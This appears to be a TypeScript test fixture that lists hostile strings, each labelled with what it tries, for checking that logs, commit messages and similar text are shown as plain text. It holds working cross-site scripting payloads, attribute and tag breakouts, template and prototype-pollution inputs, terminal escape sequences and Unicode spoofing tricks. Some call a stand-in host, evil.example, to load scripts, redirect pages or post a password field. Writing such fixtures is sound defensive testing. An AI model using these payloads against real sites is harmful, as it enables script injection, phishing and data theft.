/** Text of which some reader may take a part for something else than text. */
export interface HostileText {
  /** What it tries. */
  readonly tries: string;
  readonly text: string;
}

const escape = "\u001b";

/**
 * What somebody might write into a log line, a commit's message, a branch or a reason, to be run, followed, fetched or misread
 * by whoever shows it. Shown rightly, each is there as text, sign for sign, and nothing else happens. Every one that could run
 * something would set `window.hostile`.
 */
export const hostileTexts: readonly HostileText[] = [
  { tries: "a script", text: "<script>window.hostile=1</script>" },
  { tries: "a script in capitals with a space", text: "<SCRIPT >window.hostile=1</SCRIPT >" },
  { tries: "a script from elsewhere", text: '<script src="https://evil.example/x.js"></script>' },
  { tries: "an image that fails", text: "<img src=x onerror=window.hostile=1>" },
  { tries: "an image that asks elsewhere", text: '<img src="https://evil.example/pixel.gif">' },
  { tries: "a drawing that loads", text: "<svg onload=window.hostile=1>" },
  { tries: "a drawing with a script", text: "<svg><script>window.hostile=1</script></svg>" },
  { tries: "a drawing that animates", text: "<svg><animate onbegin=window.hostile=1 attributeName=x dur=1s>" },
  { tries: "a mathematical formula", text: '<math><a xlink:href="javascript:window.hostile=1">x</a></math>' },
  { tries: "a frame", text: '<iframe src="javascript:window.hostile=1"></iframe>' },
  { tries: "a frame with a document", text: '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>' },
  { tries: "an object", text: '<object data="data:text/html,<script>window.hostile=1</script>"></object>' },
  { tries: "a link that runs", text: '<a href="javascript:window.hostile=1">click</a>' },
  { tries: "a link of Markdown that runs", text: "[click](javascript:window.hostile=1)" },
  { tries: "an image of Markdown from elsewhere", text: "![x](https://evil.example/pixel.gif)" },
  { tries: "a bare address that runs", text: "javascript:window.hostile=1" },
  { tries: "an address with a name and a password", text: "https://fairway.example@evil.example/login" },
  { tries: "a form", text: '<form action="https://evil.example"><input name=password autofocus></form>' },
  { tries: "a style", text: "<style>*{display:none}</style>" },
  { tries: "a style in an attribute", text: '<b style="position:fixed;inset:0;background:red">x</b>' },
  { tries: "a base for all links", text: '<base href="https://evil.example/">' },
  { tries: "going elsewhere", text: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { tries: "leaving an attribute", text: '" autofocus onfocus="window.hostile=1' },
  { tries: "leaving an attribute in single quotes", text: "' onmouseover='window.hostile=1" },
  { tries: "leaving a script", text: "</script><script>window.hostile=1</script>" },
  { tries: "leaving a text field", text: "</textarea><img src=x onerror=window.hostile=1>" },
  { tries: "leaving a title", text: "</title><img src=x onerror=window.hostile=1>" },
  { tries: "leaving a comment", text: "--><img src=x onerror=window.hostile=1><!--" },
  { tries: "entities that become tags", text: "&lt;img src=x onerror=window.hostile=1&gt;" },
  { tries: "entities without an end", text: "&#60script&#62window.hostile=1" },
  { tries: "a template", text: "{{constructor.constructor('window.hostile=1')()}} ${window.hostile=1} <%= 1 %>" },
  { tries: "being an element of React", text: '{"$$typeof":"Symbol(react.element)","type":"script"}' },
  { tries: "changing every object", text: '{"__proto__":{"hostile":1}}' },
  {
    tries: "a link and a title of a terminal",
    text: `${escape}]8;;javascript:window.hostile=1${escape}\\x${escape}]8;;${escape}\\${escape}]0;t\u0007`,
  },
  {
    tries: "colours with tags in them",
    text: `${escape}[31m<b>${escape}[0m<img src=x onerror=window.hostile=1>${escape}[38;5;999999m`,
  },
  { tries: "clearing the screen and going back", text: `${escape}[2J${escape}[1;1Hok\rfine\b\b` },
  { tries: "turning the direction of writing", text: "invoice\u202egnp.exe \u2066safe\u2069" },
  { tries: "hiding and joining signs", text: "pay\u200bpal \u2060ad\u00admin \ufeffroot" },
  { tries: "hundreds of marks over one sign", text: `Z${"\u0351\u036b\u0343\u036a\u0302".repeat(60)}` },
  { tries: "control signs", text: "a\u0000b\u0007c\u007fd\u009be\u2028f\u2029g" },
  { tries: "half of a pair", text: "\ud83d<img src=x onerror=window.hostile=1>\udc00" },
  { tries: "a line that never ends", text: `<b>${"A".repeat(20_000)}</b>` },
];
